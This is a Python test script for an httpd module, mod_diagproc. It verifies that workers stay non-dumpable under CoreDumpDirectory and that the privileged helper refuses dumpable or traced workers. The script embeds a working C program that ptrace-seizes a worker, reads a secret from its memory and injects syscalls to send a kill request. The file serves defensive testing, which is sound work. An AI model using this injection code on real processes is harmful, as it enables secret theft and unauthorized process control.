# CoreDumpDirectory and a hostile neighbour. With CoreDumpDirectory set,
# httpd's mod_unixd makes every child dumpable again after its setuid
# (prctl(PR_SET_DUMPABLE, 1)), so that it can write a core. On a kernel
# without Yama, any process of the workers' user (a CGI script, a php-fpm
# pool) may then ptrace a worker: read the generation's secret out of its
# memory and make it send the helper a request of the attacker's choosing.
# The attacker here is such a process: a small C program run as the
# workers' user that seizes a worker with ptrace, reads the secret at the
# address the module file's symbol table gives, and injects socket, connect,
# write and read system calls that send the helper a kill of another user's
# process, through a Location whose `Require ip 192.0.2.1` admits no HTTP
# client at all. mod_diagproc keeps its workers (and the reserved process,
# and mod_cgid's daemon) non-dumpable: the attach fails. When some other
# module makes a worker dumpable after all (a test module here), the attach
# succeeds, and the helper refuses the worker as a peer and logs why. With
# CoreDumpDirectory unset nothing changes; in an httpd started by an
# ordinary user (no privileged helper, workers dumpable by nature) the
# helper serves as before.
import os
import pwd
import re
import shutil
import subprocess
import tempfile
import time

from tap import ok, is_, like, diag, note, done_testing
import dphttpd
import procstate
from dphttpd import Httpd, spawn, worker_user, free_port, BUILD, IS_ROOT, ROOT, MODULE

TARGET = os.path.join(BUILD, "targets", "proc_target")
W = worker_user()
VICTIM = "dptest2"

ATTACKER = r'''
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
#include "common/proto.h"

/* usage: attacker PID MODULE_FILE SECRET_OFFSET SOCKET TARGET_PID SECTIONS */
static pid_t pid;
static struct user_regs_struct saved;
static unsigned long syscall_at;

static int peek_bytes(unsigned long addr, void *buf, size_t n)
{
    size_t i;
    for (i = 0; i < n; i += 8) {
        long w;
        errno = 0;
        w = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + i), NULL);
        if (errno)
            return -1;
        memcpy((char *)buf + i, &w, n - i < 8 ? n - i : 8);
    }
    return 0;
}

static int poke_bytes(unsigned long addr, const void *buf, size_t n)
{
    size_t i;
    for (i = 0; i < n; i += 8) {
        long w = 0;
        if (n - i < 8 && peek_bytes(addr + i, &w, 8) != 0)
            return -1;
        memcpy(&w, (const char *)buf + i, n - i < 8 ? n - i : 8);
        if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + i), (void *)w) != 0)
            return -1;
    }
    return 0;
}

/* Where a file is mapped (its mapping at file offset 0), and the start and
 * end of the executable mapping that holds addr. */
static unsigned long mapping(const char *file, unsigned long addr, unsigned long *end)
{
    char path[64], line[4096], perms[8];
    unsigned long lo, hi, off, found = 0;
    FILE *f;

    snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
    if (!(f = fopen(path, "r"))) {
        printf("maps: %s\n", strerror(errno));
        return 0;
    }
    while (!found && fgets(line, sizeof(line), f)) {
        if (sscanf(line, "%lx-%lx %7s %lx", &lo, &hi, perms, &off) != 4)
            continue;
        if (file && off == 0 && strstr(line, file))
            found = lo;
        if (!file && addr >= lo && addr < hi && perms[2] == 'x') {
            found = lo;
            *end = hi;
        }
    }
    fclose(f);
    return found;
}

/* A syscall instruction: where the stopped thread entered the kernel, or
 * the first one in the code it was running. */
static unsigned long find_syscall(unsigned long rip)
{
    unsigned long lo, hi = 0, a;
    unsigned char b[10];

    if (peek_bytes(rip - 2, b, 2) == 0 && b[0] == 0x0f && b[1] == 0x05)
        return rip - 2;
    lo = mapping(NULL, rip, &hi);
    for (a = lo; a + 9 < hi; a += 8)
        if (peek_bytes(a, b, 9) == 0)
            for (int k = 0; k < 8; k++)
                if (b[k] == 0x0f && b[k + 1] == 0x05)
                    return a + k;
    return 0;
}

/* One system call made by the stopped thread. */
static long inject(long nr, long a, long b, long c)
{
    struct user_regs_struct r = saved;
    int st;

    r.rax = nr;
    r.orig_rax = -1;    /* no restart of the call it was stopped in */
    r.rdi = a;
    r.rsi = b;
    r.rdx = c;
    r.rip = syscall_at;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &r) != 0
        || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) != 0
        || waitpid(pid, &st, __WALL) != pid
        || ptrace(PTRACE_GETREGS, pid, NULL, &r) != 0)
        return -100000;
    return (long)r.rax;
}

int main(int argc, char **argv)
{
    unsigned char secret[DP_SECRET_LEN], answer[512];
    unsigned long base, scratch, at_sa, at_rq, at_buf;
    struct sockaddr_un sa;
    dp_request rq;
    int st, s, nsections;

    if (argc != 7)
        return 2;
    alarm(60);
    setvbuf(stdout, NULL, _IONBF, 0);
    pid = atoi(argv[1]);
    nsections = atoi(argv[6]);
    base = mapping(argv[2], 0, NULL);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0) {
        printf("seize: %s\n", strerror(errno));
        return 3;
    }
    printf("seize: ok\n");
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) != 0 || waitpid(pid, &st, __WALL) != pid) {
        printf("interrupt: %s\n", strerror(errno));
        return 4;
    }
    if (!base || peek_bytes(base + strtoul(argv[3], NULL, 0), secret, sizeof(secret)) != 0) {
        printf("secret: not read\n");
        goto out;
    }
    printf("secret: ");
    for (s = 0; s < DP_SECRET_LEN; s++)
        printf("%02x", secret[s]);
    printf("\n");
    ptrace(PTRACE_GETREGS, pid, NULL, &saved);
    if (!(syscall_at = find_syscall(saved.rip))) {
        printf("no syscall instruction\n");
        goto out;
    }
    /* scratch memory on the thread's stack, well below what it uses */
    scratch = (saved.rsp - 16384) & ~15UL;
    at_sa = scratch;
    at_rq = scratch + 256;
    at_buf = at_rq + ((sizeof(rq) + 15) & ~15UL);
    memset(&sa, 0, sizeof(sa));
    sa.sun_family = AF_UNIX;
    snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[4]);
    memset(&rq, 0, sizeof(rq));
    rq.magic = DP_PROTO_MAGIC;
    rq.version = DP_PROTO_VERSION;
    rq.op = DP_OP_KILL;
    rq.pid = atoi(argv[5]);
    memcpy(rq.secret, secret, sizeof(rq.secret));
    poke_bytes(at_sa, &sa, sizeof(sa));
    for (s = 0; s < nsections; s++) {
        long fd, n;
        rq.allow_section = rq.scope_section = s;
        poke_bytes(at_rq, &rq, sizeof(rq));
        fd = inject(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
        if (fd < 0 || inject(SYS_connect, fd, (long)at_sa, sizeof(sa)) != 0) {
            printf("section %d: no connection (%ld)\n", s, fd);
            break;
        }
        inject(SYS_write, fd, (long)at_rq, sizeof(rq));
        n = inject(SYS_read, fd, (long)at_buf, sizeof(answer));
        inject(SYS_close, fd, 0, 0);
        if (n < DP_FRAME_HDR || peek_bytes(at_buf, answer, sizeof(answer)) != 0)
            printf("section %d: no answer\n", s);
        else if (answer[0] == DP_FR_OK) {
            printf("section %d: ok\n", s);
            break;
        }
        else if (answer[0] == DP_FR_ERROR && n >= DP_FRAME_HDR + 4) {
            uint32_t status;
            memcpy(&status, answer + DP_FRAME_HDR, 4);
            answer[n < (long)sizeof(answer) ? n : (long)sizeof(answer) - 1] = '\0';
            printf("section %d: error %u %s\n", s, status, answer + DP_FRAME_HDR + 4);
        }
        else
            printf("section %d: frame %d\n", s, answer[0]);
    }
out:
    ptrace(PTRACE_SETREGS, pid, NULL, &saved);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 0;
}
'''

# Another module that makes httpd's children dumpable again after
# mod_diagproc's child_init has run: the helper's own check must hold then.
DUMPABLE = r'''
#include <sys/prctl.h>
#include "httpd.h"
#include "http_config.h"

static void make_dumpable(apr_pool_t *p, server_rec *s)
{
    (void)p;
    (void)s;
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
}

static void hooks(apr_pool_t *p)
{
    (void)p;
    ap_hook_child_init(make_dumpable, NULL, NULL, APR_HOOK_REALLY_LAST);
}

AP_DECLARE_MODULE(dpdumpable) = { STANDARD20_MODULE_STUFF, NULL, NULL, NULL, NULL, NULL, hooks,
                                  AP_MODULE_FLAG_NONE };
'''

# Seizes (without stopping) the processes named, as root may, and holds them.
HOLD = r'''
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
for pid in sys.argv[1:]:
    if libc.ptrace(0x4206, int(pid), None, None) != 0:      # PTRACE_SEIZE
        print("error", ctypes.get_errno(), flush=True)
print("seized", flush=True)
time.sleep(600)
'''

STARTUP = r"DP00031: diagproc: CoreDumpDirectory would make httpd's children ptraceable"


def mem_owner(pid):
    """The owner of /proc/PID/mem: root while the process is not dumpable
    (nobody but a capable process may ptrace it), else its own user."""
    return os.stat(f"/proc/{pid}/mem").st_uid


def log(h):
    with open(os.path.join(h.dir, "error.log"), errors="replace") as f:
        return f.read()


def alive(p):
    return p.poll() is None


def kill_url(h, location, pid):
    return h.request("DELETE", f"{location}/{pid}").status


if not IS_ROOT:
    # an ordinary user's httpd: workers are that user's and dumpable by
    # nature, the helper has no capability beyond them: it serves them
    h = Httpd(locations={"/ok": "DiagProcAllow kill"},
              server_conf="CoreDumpDirectory /tmp\n")
    h.start()
    ok(not re.search(r"DP0003[12]:", log(h)),
       "an ordinary user's httpd with CoreDumpDirectory: no start-up line about it")
    t = spawn([TARGET], ready="ready")
    is_(kill_url(h, "/ok", t.pid), 204, "…and the helper serves its (dumpable) workers: "
        "a kill of the user's own process")
    ok(procstate.settle(lambda: not alive(t)), "…and the process is gone")
    h.stop()
    done_testing()

build = tempfile.mkdtemp(prefix="dp-coredump-")
os.chmod(build, 0o755)
with open(os.path.join(build, "attacker.c"), "w") as f:
    f.write(ATTACKER)
r = subprocess.run(["cc", "-std=gnu11", "-Wall", "-Werror", "-O1", f"-I{ROOT}", "-o",
                    os.path.join(build, "attacker"), os.path.join(build, "attacker.c")],
                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
if r.returncode:
    diag(r.stdout.decode(errors="replace")[-3000:])
is_(r.returncode, 0, "the attacker builds (-Wall -Werror)")
with open(os.path.join(build, "mod_dpdumpable.c"), "w") as f:
    f.write(DUMPABLE)
r = subprocess.run(["apxs", "-c", "-o", "mod_dpdumpable.la", "-Wc,-Wall", "-Wc,-Werror",
                    "mod_dpdumpable.c"], cwd=build, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
if r.returncode:
    diag(r.stdout.decode(errors="replace")[-3000:])
is_(r.returncode, 0, "the module that makes children dumpable builds with apxs")
dumpable_so = os.path.join(build, ".libs", "mod_dpdumpable.so")

# the secret's place in the module file, as an attacker reads it from the
# symbol table of the file the workers map
nm = subprocess.run(["nm", MODULE], capture_output=True, text=True).stdout
m = re.search(r"^([0-9a-f]+) \w generation_secret$", nm, re.M)
ok(m, "the module file's symbol table has the secret's place")
SECRET_OFF = "0x" + (m.group(1) if m else "0")


def attack(h, pid, target):
    """The attacker, as the workers' user, against pid: its report."""
    pw = pwd.getpwnam(W)
    sock = os.path.join(h.dir, f"diagproc.{h.parent_pid}.sock")
    p = subprocess.run([os.path.join(build, "attacker"), str(pid), os.path.basename(MODULE),
                        SECRET_OFF, sock, str(target), "4"],
                       user=pw.pw_uid, group=pw.pw_gid, extra_groups=[],
                       capture_output=True, text=True, timeout=90)
    return p.stdout


def site_workers(h):
    """The MPM's workers: the children that hold the site's listener (not
    the helper, the reserved process or mod_cgid's daemon), once there is
    one: a child just forked may not show its descriptors yet (seen in the
    sanitizer pass, where children start slowly)."""
    found = []

    def look():
        found[:] = [w for w in h.workers() if h.port in procstate.listen_ports(w)]
        return found
    procstate.settle(look, 15)
    return found


def config(h, cores=True, extra=""):
    """A kill Location no HTTP client may reach, one the test may, the
    reserved process, mod_cgid's daemon, and (cores) CoreDumpDirectory."""
    cores_dir = os.path.join(h.dir, "cores")
    os.makedirs(cores_dir, exist_ok=True)
    return ((f"CoreDumpDirectory {cores_dir}\n" if cores else "")
            + f"DiagProcListen 127.0.0.1:{free_port()}\n"
            + f"ScriptSock {h.dir}/cgid.sock\n"
            + "<Location /kill>\n    SetHandler diagproc\n    DiagProcAllow kill\n"
            + f"    DiagProcUsers {W} {VICTIM}\n    Require ip 192.0.2.1\n</Location>\n"
            + extra)


def start(cores=True, extra=""):
    h = Httpd(locations={"/ok": f"DiagProcAllow kill\nDiagProcUsers {W} {VICTIM}"},
              modules=("cgid",))
    h.server_conf = config(h, cores, extra)
    # what the attacks provoke: the start-up line about CoreDumpDirectory,
    # Require refusing the client at /kill, the helper refusing a dumpable or
    # traced worker (and its counts), and that worker's 503
    h.expect_log("DP00031", "AH01630", "DP10002", "DP10003", "DP00010")
    return h.start()


# ---- CoreDumpDirectory set: the children stay non-dumpable, the attach fails
h = start()
like(log(h), STARTUP + rf" by every process of user {W}\b",
     "CoreDumpDirectory: the start-up line says what mod_diagproc does about it")
diag_line = re.search(r"DP00031:[^\n]*", log(h))
note(diag_line.group(0) if diag_line else "no start-up line")
workers = site_workers(h)
others = [k for k in h.workers() if k not in workers]
ok(workers and h.reserved(), f"workers {workers}, the reserved process {h.reserved()}, "
   f"other children {others}")
cgid = [k for k in others if k not in h.reserved()]
roles = (("a worker", workers), ("the reserved process", h.reserved()),
         ("mod_cgid's daemon", cgid))
for role, pids in roles:
    for k in pids:
        is_(mem_owner(k), 0, f"{role} ({k}) is not dumpable (/proc/{k}/mem is root's)")
victim = spawn([TARGET], ready="ready", user=VICTIM)
is_(kill_url(h, "/kill", victim.pid), 403, "the kill Location admits no HTTP client (Require ip "
    "192.0.2.1)")
for role, pids in roles:
    before = len(log(h))
    out = attack(h, pids[0], victim.pid) if pids else "none"
    like(out, r"(?m)^seize: Operation not permitted$", f"a process of {W} cannot ptrace {role} "
         f"({out.strip()[:300]!r})")
    ok(pids and procstate.running(pids[0]), f"…and {role} runs on")
    ok(alive(victim), f"…and {VICTIM}'s process still runs")
    ok("refused" not in log(h)[before:], "…and the helper heard nothing")
    if not alive(victim):
        victim = spawn([TARGET], ready="ready", user=VICTIM)
# the module still does its work
is_(kill_url(h, "/ok", victim.pid), 204, f"a kill of {VICTIM}'s process through the Location "
    "that admits the test: served (the helper serves its non-dumpable workers)")
ok(procstate.settle(lambda: not alive(victim)), "…and the process is gone")
# a worker with a thread traced by anyone but the helper's own children may
# be driven by its tracer (one that attached while it was dumpable, here
# root): the helper refuses it
tracer = spawn(["/usr/bin/python3", "-c", HOLD] + [str(k) for k in workers], ready="seized")
victim = spawn([TARGET], ready="ready", user=VICTIM)
before = len(log(h))
st = kill_url(h, "/ok", victim.pid)
ok(st >= 500 and alive(victim), f"a worker traced by another process (pid {tracer.pid}) asks "
   f"for a kill: refused ({st}), the process still runs")
like(log(h)[before:], rf"refused a connection from pid \d+ uid \d+ gid \d+: its thread \d+ is "
     rf"traced by pid {tracer.pid}\b", "…and the helper logged the tracer")
dphttpd.kill_quietly(tracer)
is_(kill_url(h, "/ok", victim.pid), 204, "…and served once the tracer is gone")
ok(procstate.settle(lambda: not alive(victim)), "…and the process is gone")
h.stop()

# ---- another module made the workers dumpable after all: the helper refuses them
h = start(extra=f"LoadModule dpdumpable_module {dumpable_so}\n")
workers = site_workers(h)
ok(workers and all(mem_owner(k) == pwd.getpwnam(W).pw_uid for k in workers),
   f"a module that makes children dumpable in its child_init: workers {workers} are "
   f"dumpable by {W}")
victim = spawn([TARGET], ready="ready", user=VICTIM)
before = len(log(h))
out = attack(h, workers[0], victim.pid)
like(out, r"seize: ok\nsecret: [0-9a-f]{64}\n", "…the attacker seizes one and reads the secret "
     "out of its memory")
m = re.search(r"secret: ([0-9a-f]{64})", out)
ok(m and "0" * 16 not in m.group(1), "…all 32 bytes of it drawn at random (not 8 and zeros)")
ok(re.search(r"section 0: no answer", out) and not re.search(r"section \d: ok", out),
   f"…but the request it makes the worker send gets no answer ({out.strip()[-300:]!r})")
ok(procstate.running(workers[0]), "…and the worker runs on")
time.sleep(0.3)
ok(alive(victim), f"…and {VICTIM}'s process still runs")
like(log(h)[before:], rf"refused a connection from pid {workers[0]} uid \d+ gid \d+: "
     r"dumpable: any process of its user may ptrace it",
     "…and the helper logged the refusal with the worker's pid and the reason")
before = len(log(h))
st = kill_url(h, "/ok", victim.pid)
ok(st >= 500 and alive(victim), f"a kill through the Location that admits the test: the "
   f"dumpable worker is refused too ({st}), the process still runs")
like(log(h)[before:], r"refused a connection from pid \d+ uid \d+ gid \d+: dumpable",
     "…and logged")
h.stop()

# ---- CoreDumpDirectory unset: nothing changes
h = start(cores=False)
ok(not re.search(r"DP0003[12]:", log(h)), "no CoreDumpDirectory: no start-up line")
workers = site_workers(h)
ok(workers and all(mem_owner(k) == 0 for k in workers),
   f"…workers {workers} are not dumpable, as httpd leaves them")
out = attack(h, workers[0], victim.pid)
like(out, r"(?m)^seize: Operation not permitted$", "…and cannot be ptraced")
is_(kill_url(h, "/ok", victim.pid), 204, "…and a kill through the Location that admits the "
    "test: served")
ok(procstate.settle(lambda: not alive(victim)), "…and the process is gone")
h.stop()

shutil.rmtree(build, ignore_errors=True)
done_testing()
